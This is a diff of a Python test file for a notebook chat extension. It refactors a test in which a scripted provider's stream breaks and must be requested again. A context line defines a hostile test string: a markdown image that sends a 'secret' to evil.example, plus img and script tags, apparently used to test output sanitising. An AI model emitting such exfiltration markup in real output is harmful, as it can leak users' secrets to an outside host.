@@ -59,6 +59,19 @@ answer = await agent.aask("T1")
 kinds = [type(event).__name__ async for event in agent.run("Thanks")]
 print(answer, agent.session.transcript[2].content, kinds[-1], sep="; ")
 """
+BREAKING = """
+from nbchat.errors import ConnectionFailed
+from nbchat.conversation.events import TextDelta
+class Breaking(ScriptedProvider):
+    breaks = 1
+    def stream(self, request, *, stop=None):
+        if self.breaks:
+            self.breaks = 0
+            yield TextDelta("The par")
+            raise ConnectionFailed("lost")
+        return (yield from super().stream(request, stop=stop))
+"""
+LOADED = "%load_ext nbchat\nagent = %chat agent\nagent.use(Breaking(says('fine')))"
 HOSTILE = (
     "'![x](https://evil.example/?secret) <img src=//evil.example> <script>1</script>'"
 )
@@ -84,6 +97,9 @@ CELLS = {
     "failed": 'agent_with(fails(RateLimited("wait", retry_after=7200.0))).chat("hi")',
     "not run": 'agent.run("hi")',
     "many": MANY,
+    "broken": f"{BREAKING}Agent(Breaking(says('fine'))).chat('hi')",
+    "loaded": LOADED,
+    "broken magic": "%%chat\nhello",
 }
 
 
@@ -282,26 +298,9 @@ def test_a_script_prints_what_a_model_did_not_take(capsys: pytest.CaptureFixture
     assert line in capsys.readouterr().out
 
 
-@pytest.mark.slow
-def test_where_no_cell_is_watched_a_broken_stream_is_asked_for_again():
+@pytest.mark.kernel
+def test_where_no_cell_is_watched_a_broken_stream_is_asked_for_again(shown):
     """As under nbconvert and papermill, whose kernels take no input."""
-    broken = """
-from nbchat.errors import ConnectionFailed
-from nbchat.conversation.events import TextDelta
-class Breaking(ScriptedProvider):
-    breaks = 1
-    def stream(self, request, *, stop=None):
-        if self.breaks:
-            self.breaks = 0
-            yield TextDelta("The par")
-            raise ConnectionFailed("lost")
-        return (yield from super().stream(request, stop=stop))
-"""
-    chat = broken + "Agent(Breaking(says('fine'))).chat('hi')"
-    magic = "%load_ext nbchat\nagent = %chat agent\nagent.use(Breaking(says('fine')))"
-    cells = [new_code_cell(each) for each in (BEGIN, chat, magic, "%%chat\nhello")]
-    notebook = new_notebook(cells=cells)
-    NotebookClient(notebook, timeout=60).execute()
-    for cell in (notebook.cells[1], notebook.cells[3]):
-        assert "fine" in str(cell.outputs)
-        assert "The par" not in str(cell.outputs)
+    for cell in ("broken", "broken magic"):
+        assert "fine" in str(shown[cell])
+        assert "The par" not in str(shown[cell])
